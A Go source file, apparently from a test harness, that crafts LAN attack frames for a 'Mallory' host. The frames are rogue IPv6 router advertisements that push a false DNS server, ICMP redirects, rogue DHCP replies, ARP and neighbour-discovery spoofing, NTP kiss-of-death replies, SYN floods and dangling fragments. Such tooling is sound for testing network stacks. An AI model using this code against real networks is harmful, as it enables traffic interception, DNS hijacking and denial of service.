package lan

import (
	"encoding/binary"
	"net"
	"net/netip"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/insomniacslk/dhcp/dhcpv4"
)

// Attack is one way to attack: it sends the nth frame, no two of which are alike in what an attacker can vary.
type Attack struct {
	Name string
	send func(m *Mallory, liar *Host, n uint32)
}

// Attacks are all of Mallory's ways below TCP.
var Attacks = []Attack{
	{"router advertisements", (*Mallory).advertise},
	{"redirects", (*Mallory).redirect},
	{"DHCP", (*Mallory).lend},
	{"ARP", (*Mallory).claim},
	{"neighbour discovery", (*Mallory).neighbour},
	{"NTP", (*Mallory).refuse},
	{"SYN", (*Mallory).knock},
	{"fragments", (*Mallory).fragment},
}

// option is one of neighbour discovery, padded to whole units of eight bytes.
func option(kind layers.ICMPv6Opt, data ...byte) layers.ICMPv6Option {
	for (len(data)+2)%8 != 0 {
		data = append(data, 0)
	}
	return layers.ICMPv6Option{Type: kind, Data: data}
}

// advertise is a router with networks, name servers, domains and ways of its own (RFC 4861, section 4.6; RFC 8106; RFC 4191).
func (m *Mallory) advertise(liar *Host, n uint32) {
	const rdnss, dnssl, route, hour = 25, 31, 24, "\x00\x00\x0e\x10"
	prefix := netip.PrefixFrom(netip.AddrFrom16([16]byte{0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, byte(n >> 8), byte(n)}), 64)
	server := netip.AddrFrom16([16]byte{0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 15: 0x53}).AsSlice()
	liar.send6(multicast(allNodes), liar.LinkLocal, allNodes, layers.IPProtocolICMPv6, icmp6(layers.ICMPv6TypeRouterAdvertisement),
		&layers.ICMPv6RouterAdvertisement{HopLimit: 3, Flags: Managed | Other, RouterLifetime: 9000, Options: layers.ICMPv6Options{
			option(layers.ICMPv6OptSourceAddress, liar.MAC...),
			option(layers.ICMPv6OptPrefixInfo, prefixInformation(prefix, 3600e9)...),
			option(layers.ICMPv6OptMTU, 0, 0, 0, 0, 0x05, 0x00),
			option(rdnss, append([]byte("\x00\x00"+hour), server...)...),
			option(dnssl, []byte("\x00\x00"+hour+"\x03bad\x07example\x00")...),
			option(route, append([]byte("\x30\x08"+hour), prefix.Addr().AsSlice()...)...),
		}})
}

// redirect says in the router's name that the way leads over the liar (RFC 792; RFC 4861, section 4.5). What it quotes is a packet of the
// victim's own.
func (m *Mallory) redirect(liar *Host, n uint32) {
	far := four("198.18.0.0/15", n)
	quoted := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(quoted, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true},
		&layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolUDP, SrcIP: m.Four.AsSlice(), DstIP: far.AsSlice()}, gopacket.Payload(make([]byte, 8))); err != nil {
		panic("BUG: " + err.Error())
	}
	gateway := four(netip.PrefixFrom(m.Four, 24).Masked().String(), n).As4()
	liar.send4(m.MAC, m.Router, m.Four, layers.IPProtocolICMPv4, &layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeRedirect, 1),
		Id: binary.BigEndian.Uint16(gateway[:]), Seq: binary.BigEndian.Uint16(gateway[2:])}, gopacket.Payload(quoted.Bytes()))
}

// lend offers, grants and takes back what nobody asked for.
func (m *Mallory) lend(liar *Host, n uint32) {
	p, err := dhcpv4.New(dhcpv4.WithMessageType([]dhcpv4.MessageType{dhcpv4.MessageTypeOffer, dhcpv4.MessageTypeAck, dhcpv4.MessageTypeNak}[n%3]),
		dhcpv4.WithYourIP(four("198.51.100.0/24", n).AsSlice()), dhcpv4.WithServerIP(m.Router.AsSlice()), dhcpv4.WithOption(dhcpv4.OptServerIdentifier(m.Router.AsSlice())),
		dhcpv4.WithNetmask(net.CIDRMask(24, 32)), dhcpv4.WithRouter(net.IP{198, 51, 100, 1}), dhcpv4.WithDNS(net.IP{198, 51, 100, 53}), dhcpv4.WithLeaseTime(3600))
	if err != nil {
		panic("BUG: " + err.Error())
	}
	p.OpCode, p.ClientHWAddr = dhcpv4.OpcodeBootReply, m.MAC
	binary.BigEndian.PutUint32(p.TransactionID[:], n*2654435761)
	liar.send4(m.MAC, m.Router, netip.AddrFrom4([4]byte{255, 255, 255, 255}), layers.IPProtocolUDP,
		&layers.UDP{SrcPort: dhcpv4.ServerPort, DstPort: dhcpv4.ClientPort}, gopacket.Payload(p.ToBytes()))
}

// claim has the victim remember machines that are not there, and others have its address.
func (m *Mallory) claim(liar *Host, n uint32) {
	me := four("198.18.0.0/15", n).AsSlice()
	nobody := make([]byte, 6)
	switch n % 3 {
	case 0:
		liar.send(everybody, layers.EthernetTypeARP, arp(layers.ARPRequest, liar.MAC, me, nobody, m.Four.AsSlice()))
	case 1:
		liar.send(everybody, layers.EthernetTypeARP, arp(layers.ARPReply, liar.MAC, me, everybody, me))
	default: // to the victim alone, and of no one else's interest
		liar.send(m.MAC, layers.EthernetTypeARP, arp(layers.ARPRequest, liar.MAC, m.Four.AsSlice(), nobody, me))
	}
}

// neighbour does the same by neighbour discovery.
func (m *Mallory) neighbour(liar *Host, n uint32) {
	local := m.Local()
	if n%2 == 0 {
		liar.send6(m.MAC, liar.LinkLocal, local, layers.IPProtocolICMPv6, icmp6(layers.ICMPv6TypeNeighborSolicitation),
			&layers.ICMPv6NeighborSolicitation{TargetAddress: local.AsSlice(), Options: layers.ICMPv6Options{option(layers.ICMPv6OptSourceAddress, liar.MAC...)}})
		return
	}
	const override = 0x20
	who := []netip.Addr{local, liar.LinkLocal}[n/2%2]
	liar.send6(multicast(allNodes), who, allNodes, layers.IPProtocolICMPv6, icmp6(layers.ICMPv6TypeNeighborAdvertisement),
		&layers.ICMPv6NeighborAdvertisement{Flags: override, TargetAddress: who.AsSlice(), Options: layers.ICMPv6Options{option(layers.ICMPv6OptTargetAddress, liar.MAC...)}})
}

// refuse is a time server that wants no questions, and guesses who asked (RFC 5905, section 7.4).
func (m *Mallory) refuse(liar *Host, n uint32) {
	b := make([]byte, 48)
	b[0] = 4<<3 | 4 // version 4, a server; stratum 0
	copy(b[12:], []string{"DENY", "RSTR", "RATE"}[n%3])
	binary.BigEndian.PutUint32(b[24:], n)
	liar.send4(m.MAC, m.Router, m.Four, layers.IPProtocolUDP, &layers.UDP{SrcPort: 123, DstPort: layers.UDPPort(32768 + n%28232)}, gopacket.Payload(b))
}

// knock begins connections and leaves them there.
func (m *Mallory) knock(liar *Host, n uint32) {
	from := four("198.18.0.0/15", n)
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: from.AsSlice(), DstIP: m.Four.AsSlice()}
	tcp := &layers.TCP{SrcPort: layers.TCPPort(1024 + n%60000), DstPort: layers.TCPPort(m.Port), SYN: true, Seq: n * 2654435761, Window: 1024}
	_ = tcp.SetNetworkLayerForChecksum(ip)
	liar.send(m.MAC, layers.EthernetTypeIPv4, ip, tcp)
}

// fragment sends the first pieces of packets whose rest never comes, of both families.
func (m *Mallory) fragment(liar *Host, n uint32) {
	piece := gopacket.Payload(make([]byte, 1024))
	if n%2 == 0 {
		liar.send(m.MAC, layers.EthernetTypeIPv4, &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolUDP, Flags: layers.IPv4MoreFragments, Id: uint16(n / 2),
			FragOffset: uint16(n / 2 % 3 * 128), SrcIP: m.Router.AsSlice(), DstIP: m.Four.AsSlice()}, piece)
		return
	}
	header := binary.BigEndian.AppendUint32([]byte{byte(layers.IPProtocolUDP), 0, 0, 1}, n) // RFC 8200, section 4.5: more follow
	liar.send6(m.MAC, liar.LinkLocal, m.Local(), layers.IPProtocolIPv6Fragment, gopacket.Payload(append(header, piece...)))
}
